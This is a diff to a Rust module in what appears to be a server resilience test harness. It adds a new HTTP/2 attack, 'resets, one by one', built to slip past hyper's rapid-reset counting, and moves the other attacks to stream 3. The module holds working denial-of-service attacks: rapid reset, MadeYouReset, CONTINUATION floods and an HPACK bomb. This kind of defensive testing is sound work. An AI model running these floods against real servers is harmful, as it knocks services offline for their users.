@@ -1,11 +1,12 @@
 //! Attacks over HTTP/2, most of them frame by frame (RFC 9113, section 6).
 
+use std::io::Read;
 use std::net::TcpStream;
 
 use bytes::Bytes;
 use harness::{Http2, times};
 
-use super::{Attack, BODY, LITTLE, STREAMS, Target, drip, flood, send, until_ended};
+use super::{Attack, BODY, LITTLE, STREAMS, Target, drip, flood, is_open, send, until_ended};
 
 pub(super) const ATTACKS: &[Attack] = &[
     Attack { name: "half a preface", cost: LITTLE, run: half_a_preface },
@@ -20,6 +21,7 @@ pub(super) const ATTACKS: &[Attack] = &[
     Attack { name: "a window of one byte, again and again", cost: STREAMS, run: byte_by_byte },
     Attack { name: "large windows, and TCP window 0", cost: STREAMS, run: takes_nothing },
     Attack { name: "rapid reset", cost: LITTLE, run: rapid_reset },
+    Attack { name: "resets, one by one", cost: LITTLE, run: resets_one_by_one },
     Attack { name: "MadeYouReset: WINDOW_UPDATE of 0", cost: LITTLE, run: made_you_reset_by_nothing },
     Attack { name: "MadeYouReset: a window beyond the largest", cost: LITTLE, run: made_you_reset_by_overflow },
     Attack { name: "MadeYouReset: DATA behind the end", cost: LITTLE, run: made_you_reset_by_late_data },
@@ -50,6 +52,7 @@ const WINDOW_UPDATE: u8 = 8;
 const CONTINUATION: u8 = 9;
 
 // Flags of frames.
+const ACK: u8 = 1;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 const WHOLE: u8 = END_STREAM | END_HEADERS;
@@ -58,8 +61,12 @@ const WHOLE: u8 = END_STREAM | END_HEADERS;
 const HEADER_TABLE_SIZE: u16 = 1;
 const INITIAL_WINDOW_SIZE: u16 = 4;
 
+/// First stream of the attacks. On a connection that was handed over, stream 1 is over.
+const FIRST: u32 = 3;
 /// Largest window, and largest step of one.
 const WINDOW_MAX: u32 = (1 << 31) - 1;
+/// The code of a stream that is wanted no more.
+const CANCEL: [u8; 4] = [0, 0, 0, 8];
 /// Streams of an attack that makes the worker reset them; it may reset 1,024 before the connection ends.
 const RESETS: [usize; 2] = [1100, 100_000];
 
@@ -88,14 +95,56 @@ fn post(path: &str) -> Vec<u8> {
     fields(0x83, path)
 }
 
-/// Connects, and sends the preface with these settings.
+/// A connection with these settings, whose preface is sent.
 fn open(target: &Target, settings: &[u8]) -> TcpStream {
-    target.sending(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat())
+    let settings = frame(SETTINGS, 0, 0, settings);
+    match target.http2() {
+        Some(mut stream) => {
+            let _ = send(&mut stream, &settings);
+            stream
+        }
+        None => beginning(target, &[PREFACE, &settings].concat()),
+    }
+}
+
+/// A new connection that begins with these bytes.
+fn beginning(target: &Target, bytes: &[u8]) -> TcpStream {
+    let mut stream = target.connect();
+    let _ = send(&mut stream, bytes);
+    stream
+}
+
+/// Kind and flags of the worker's next frame. `None`: the connection has ended.
+fn next_frame(stream: &mut TcpStream) -> Option<(u8, u8)> {
+    let mut head = [0; 9];
+    let mut whole = |bytes: &mut [u8]| match stream.read_exact(bytes) {
+        Ok(()) => true,
+        Err(error) => {
+            assert!(!is_open(&error), "the worker says nothing more, and keeps the connection");
+            false
+        }
+    };
+    let has_head = whole(&mut head);
+    let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
+    (has_head && whole(&mut vec![0; length as usize])).then_some((head[3], head[4]))
+}
+
+/// Goes on until a request on stream 1 is answered, and nothing is owed to either side.
+pub(super) fn asked(mut stream: TcpStream) -> TcpStream {
+    let request = frame(HEADERS, WHOLE, 1, &get("/cached"));
+    assert!(send(&mut stream, &[PREFACE, &frame(SETTINGS, 0, 0, &[]), &request].concat()));
+    loop {
+        match next_frame(&mut stream).expect("an answer") {
+            (SETTINGS, 0) => assert!(send(&mut stream, &frame(SETTINGS, ACK, 0, &[]))),
+            (HEADERS | DATA, flags) if flags & END_STREAM != 0 => return stream,
+            _ => {}
+        }
+    }
 }
 
 /// Numbers of a client's first streams.
 fn numbers(count: usize) -> impl Iterator<Item = u32> {
-    (0..count).map(|number| u32::try_from(number * 2 + 1).unwrap())
+    (FIRST..).step_by(2).take(count)
 }
 
 /// Sends what `each` makes of each stream's number, for so many streams.
@@ -107,17 +156,17 @@ fn stream_by_stream(mut stream: TcpStream, count: usize, each: impl Fn(u32) -> V
 }
 
 fn half_a_preface(target: &Target) -> Option<TcpStream> {
-    until_ended(target.sending(&PREFACE[..12]))
+    until_ended(beginning(target, &PREFACE[..12]))
 }
 
 fn a_preface_alone(target: &Target) -> Option<TcpStream> {
-    until_ended(target.sending(PREFACE))
+    until_ended(beginning(target, PREFACE))
 }
 
 /// HEADERS of 1000 bytes, of which 10 come.
 fn begun_frame(target: &Target) -> TcpStream {
     let mut stream = open(target, &[]);
-    let frame = frame(HEADERS, WHOLE, 1, &[0; 1000]);
+    let frame = frame(HEADERS, WHOLE, FIRST, &[0; 1000]);
     let _ = send(&mut stream, &frame[..19]);
     stream
 }
@@ -163,7 +212,7 @@ fn malformed_frames(target: &Target) -> Option<TcpStream> {
 }
 
 fn half_bodies(target: &Target) -> Option<TcpStream> {
-    let mut http2 = Http2::connect(target.0, 65_535);
+    let mut http2 = Http2::over(target.connect(), 65_535);
     let request = || http::Request::post("http://x/gather").body(()).unwrap();
     let mut asked: Vec<_> = (0..10).map(|_| http2.ask(request(), false)).collect();
     let statuses = http2.runtime.block_on(async {
@@ -182,13 +231,13 @@ fn half_bodies(target: &Target) -> Option<TcpStream> {
 
 fn a_slow_body(target: &Target) -> Option<TcpStream> {
     let mut stream = open(target, &[]);
-    let _ = send(&mut stream, &frame(HEADERS, END_HEADERS, 1, &post("/gather")));
-    drip(stream, &frame(DATA, 0, 1, b"x"))
+    let _ = send(&mut stream, &frame(HEADERS, END_HEADERS, FIRST, &post("/gather")));
+    drip(stream, &frame(DATA, 0, FIRST, b"x"))
 }
 
 /// 100 responses of which nothing can be sent, or a byte of each.
 fn streams(target: &Target, window: u32) -> Option<TcpStream> {
-    let mut http2 = Http2::connect(target.0, window);
+    let mut http2 = Http2::over(target.connect(), window);
     let asked: Vec<_> = (0..100).map(|_| http2.get("/static/large")).collect();
     assert_eq!(http2.ends_of(asked).len(), 100, "every stream is ended");
     None
@@ -230,8 +279,31 @@ fn resets(target: &Target, then: impl Fn(u32) -> Vec<u8>) -> Option<TcpStream> {
 }
 
 fn rapid_reset(target: &Target) -> Option<TcpStream> {
-    // CANCEL
-    resets(target, |id| frame(RST_STREAM, 0, id, &[0, 0, 0, 8]))
+    resets(target, |id| frame(RST_STREAM, 0, id, &CANCEL))
+}
+
+/// Each is seen before the next comes. So hyper counts none of them, and the connection could be parked between two.
+fn resets_one_by_one(target: &Target) -> Option<TcpStream> {
+    let (mut stream, request) = (open(target, &[]), get("/"));
+    for id in numbers(times(300, 20_000)) {
+        let reset = [frame(HEADERS, WHOLE, id, &request), frame(RST_STREAM, 0, id, &CANCEL)].concat();
+        let asks = frame(PING, 0, 0, b"12345678");
+        if !send(&mut stream, &[reset, asks].concat()) || !is_answered(&mut stream) {
+            return None;
+        }
+    }
+    until_ended(stream)
+}
+
+/// Reads on to the answer to a PING.
+fn is_answered(stream: &mut TcpStream) -> bool {
+    loop {
+        match next_frame(stream) {
+            Some((PING, flags)) if flags & ACK != 0 => return true,
+            Some(_) => {}
+            None => return false,
+        }
+    }
 }
 
 fn made_you_reset_by_nothing(target: &Target) -> Option<TcpStream> {
@@ -261,18 +333,18 @@ fn made_you_reset_by_length(target: &Target) -> Option<TcpStream> {
 /// Begins a head that does not end, and goes on with this.
 fn endless_head(target: &Target, piece: &[u8], rounds: usize) -> Option<TcpStream> {
     let mut stream = open(target, &[]);
-    let _ = send(&mut stream, &frame(HEADERS, END_STREAM, 1, &get("/")));
+    let _ = send(&mut stream, &frame(HEADERS, END_STREAM, FIRST, &get("/")));
     flood(stream, piece, rounds)
 }
 
 fn continuations(target: &Target) -> Option<TcpStream> {
     // A field that no table keeps: a, and 100 bytes.
     let field = [&[0x00, 0x01, b'a', 100][..], &[b'b'; 100]].concat();
-    endless_head(target, &frame(CONTINUATION, 0, 1, &field.repeat(150)), times(50, 5000))
+    endless_head(target, &frame(CONTINUATION, 0, FIRST, &field.repeat(150)), times(50, 5000))
 }
 
 fn empty_continuations(target: &Target) -> Option<TcpStream> {
-    endless_head(target, &frame(CONTINUATION, 0, 1, &[]).repeat(100), times(50, 10_000))
+    endless_head(target, &frame(CONTINUATION, 0, FIRST, &[]).repeat(100), times(50, 10_000))
 }
 
 fn hpack_bomb(target: &Target) -> Option<TcpStream> {
@@ -307,8 +379,8 @@ fn priorities(target: &Target) -> Option<TcpStream> {
 
 fn empty_data(target: &Target) -> Option<TcpStream> {
     let mut stream = open(target, &[]);
-    let _ = send(&mut stream, &frame(HEADERS, END_HEADERS, 1, &post("/gather")));
-    flood(stream, &frame(DATA, 0, 1, b"").repeat(100), times(20, 10_000))
+    let _ = send(&mut stream, &frame(HEADERS, END_HEADERS, FIRST, &post("/gather")));
+    flood(stream, &frame(DATA, 0, FIRST, b"").repeat(100), times(20, 10_000))
 }
 
 fn unknown_frames(target: &Target) -> Option<TcpStream> {
